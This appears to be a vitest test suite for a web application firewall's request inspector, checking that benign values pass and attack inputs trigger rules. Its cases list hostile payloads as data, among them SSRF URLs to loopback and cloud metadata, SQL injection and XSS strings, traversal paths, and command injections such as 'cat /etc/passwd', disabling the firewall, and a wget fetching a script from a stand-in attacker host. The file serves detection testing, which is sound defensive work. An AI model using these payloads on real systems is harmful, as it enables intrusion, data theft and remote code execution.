import { describe, expect, it } from "vitest";
import { categories, ids, inJson, inQuery } from "../test-helpers";
import { inspectRequest } from "../index";
import { extractValues } from "../normalize/extract";
import { wafFamiliesFor } from "../gates";

const valueOf = (text: string) => extractValues({ method: "GET", path: "/", query: `q=${encodeURIComponent(text)}`, headers: {} }).find((v) => v.location === "query.q");
const familiesOf = (text: string): string[] => {
  const v = valueOf(text);
  return v ? wafFamiliesFor(v).map((f) => f.name) : [];
};

describe("benign-shape skips and narrowed gates", () => {
  it.each([
    ["alice.smith+news@example.co.uk", []],
    ["https://cdn.example.com/u/3.png?size=64&fmt=webp", ["traversal"]],
    [`data:image/png;base64,${"iVBORw0KGgo".repeat(8)}`, []],
    ["blue wool scarf (large)", []],
    ["13 rue de l'Église", []],
    ["2024-04-13T03:15:00Z", []],
  ])("%s reaches only %j", (text, families) => {
    expect(familiesOf(text)).toEqual(families);
  });

  it.each([
    ["http://127.0.0.1/admin", "ssrf-loopback"],
    ["http://169.254.169.254/latest/meta-data/", "ssrf-metadata"],
    ["http://a.example@127.0.0.1/", "ssrf-loopback"],
    ["data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "xss-js-uri"],
    ["1,iif(1440=4612,1,1/0)", "sqli-conditional"],
    ["a'or'a", "sqli-breakout"],
    ["java.lang.Runtime", "rce-java-class"],
    ["wp-config.php", "trav-sensitive-file-name"],
    ["0x2e0x2e0x2f0x2e0x2e0x2fboot.ini", "trav-dot-dot"],
  ])("shapes do not hide %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });

  it("a realistic API record has no WAF findings", () => {
    const findings = inJson({
      id: "daa66d13-daa6-4aa6-aa66-daa66d13daa6",
      customer: { name: "Seán O'Brien", email: "sean.3@example.com" },
      note: "Please leave the parcel at the back door; the front bell doesn't work. 50% refund per policy §3.2 (cc: sales@).",
      links: { self: "https://api.example.com/v1/orders/42?expand=items&fmt=json" },
    });
    expect(findings).toEqual([]);
  });
});

describe("command injection: command-line shapes", () => {
  it.each([
    ["; netsh firewall set opmode disable", "rce-chained-command"],
    ["& reg add \"HKLM\\System\" /v x", "rce-chained-command"],
    ["+|+dir+c:/", "rce-chained-command"],
    ["which python", "rce-chained-command"],
    ["time curl coreruleset.org", "rce-chained-command"],
    ["ping.exe -n 31 127.0.0.1", "rce-chained-command"],
    ["ping -n 31 127.0.0.1", "rce-chained-command"],
    ["cat /etc/passwd", "rce-chained-command"],
    ["wget https://evil.example/x.sh", "rce-chained-command"],
    ["whoami", "rce-chained-command"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it.each([
    "perl", "del", "env+olvente", "del almendro, 169", "ping me later", "time to go", "find my order", "find more", "sort by date",
    "type your name", "which one is better", "cat lovers unite", "sleep 8 hours", "cats & dogs; net profit rose", "Q&A; reg. office",
  ])("does not flag %s", (text) => {
    expect(categories(inQuery(text))).not.toContain("rce");
  });
});

describe("structural markup in plain-text fields", () => {
  it.each(["<style type=\"text/css\">", "</form>", "</BODY></HTML>", "<input type=\"submit\">", "<!-- IE 6-9 -->", "<![endif]-->", "<textarea>"])("flags %s", (payload) => {
    expect(ids(inQuery(payload))).toContain("xss-structural-tag");
  });
  it.each(["I <3 cats", "a < b and c > d", "a <b>bold</b> move", "x -> y", "<3 <3 <3"])("does not flag %s", (text) => {
    expect(ids(inQuery(text))).not.toContain("xss-structural-tag");
  });
});

describe("bodies without a content type", () => {
  it("reads name=value bodies as a form, spaces included", () => {
    const r = inspectRequest({ method: "POST", path: "/post", query: "", headers: {}, body: "code=time ifconfig" });
    expect(r.findings.map((f) => `${f.rule_id}@${f.location}`)).toContain("rce-chained-command@body.code");
  });
});
